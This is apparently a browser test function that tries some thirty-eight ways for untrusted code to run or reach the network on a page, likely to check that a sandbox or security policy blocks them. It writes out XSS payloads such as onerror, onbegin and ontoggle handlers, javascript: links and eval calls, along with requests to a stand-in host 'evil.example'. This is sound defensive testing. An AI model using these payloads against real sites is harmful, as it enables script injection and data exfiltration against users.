// What code of a stranger would try on a page: how often it tried, and what ran.
async () => {
  const wait = () => new Promise((done) => setTimeout(done, 20));
  const evil = "https://evil.example";
  const add = (tag, values, into = document.body) => {
    const made = Object.assign(document.createElement(tag), values);
    into.append(made);
    return made;
  };
  const write = (html) => { add("div", {}).innerHTML = html; };
  const attempts = [
    () => add("script", { textContent: "window.__ran = 1" }),
    () => add("script", { src: `${evil}/s.js` }),
    () => add("script", { src: "data:text/javascript,window.__ran=1" }),
    () => add("script", { src: URL.createObjectURL(new Blob(["window.__ran=1"])) }),
    () => add("script", { type: "module", textContent: "window.__ran = 1" }),
    () => add("script", { type: "speculationrules", textContent: `{"prefetch":[{"urls":["${evil}/r"]}]}` }),
    () => write('<img src=x onerror="window.__ran = 1">'),
    () => write('<svg><animate onbegin="window.__ran = 1" attributeName="x" dur="1s"></svg>'),
    () => write("<details open ontoggle='window.__ran = 1'><summary>x</summary></details>"),
    () => write('<iframe srcdoc="<script>parent.__ran = 1</script>"></iframe>'),
    () => write('<p style="background: url(//evil.example/style)">x</p>'),
    () => { const link = add("a", { href: "javascript:window.__ran = 1" }); link.click(); },
    () => (0, eval)("window.__ran = 1"),
    () => new Function("window.__ran = 1")(),
    () => setTimeout("window.__ran = 1", 0),
    () => fetch(`${evil}/f`),
    () => navigator.sendBeacon(`${evil}/b`, "x"),
    () => { const ask = new XMLHttpRequest(); ask.open("GET", `${evil}/x`); ask.send(); },
    () => new WebSocket("wss://evil.example/socket"),
    () => new EventSource(`${evil}/events`),
    () => { new Image().src = `${evil}/i.png`; },
    () => add("img", { srcset: `${evil}/i2.png 1x` }),
    () => add("style", { textContent: "body { background: url(//evil.example/c) }" }),
    () => new FontFace("x", `url(${evil}/font)`).load(),
    () => add("link", { rel: "stylesheet", href: `${evil}/l.css` }),
    () => add("link", { rel: "prefetch", href: `${evil}/p` }),
    () => add("link", { rel: "modulepreload", href: `${evil}/m.js` }),
    () => add("link", { rel: "manifest", href: `${evil}/manifest` }, document.head),
    () => add("iframe", { src: `${evil}/frame` }),
    () => add("object", { data: `${evil}/o` }),
    () => add("embed", { src: `${evil}/e` }),
    () => add("video", { src: `${evil}/v`, poster: `${evil}/poster` }),
    () => add("audio", { src: `${evil}/a` }),
    () => new Worker(URL.createObjectURL(new Blob(["1"]))),
    () => new SharedWorker(URL.createObjectURL(new Blob(["1"]))),
    () => import(`${evil}/m.js`),
    () => { add("base", { href: `${evil}/` }, document.head); new Image().src = "relative.png"; },
    () => { add("form", { action: `${evil}/form`, target: "_blank" }).submit(); },
  ];
  let tried = 0;
  for (const attempt of attempts) {
    await wait(); // what a test calls directly may use eval: not what is called later
    try { await Promise.race([attempt(), wait()]); } catch { /* blocked, as it should be */ }
    tried += 1;
  }
  await wait();
  await wait();
  return [tried, window.__ran ?? null];
}
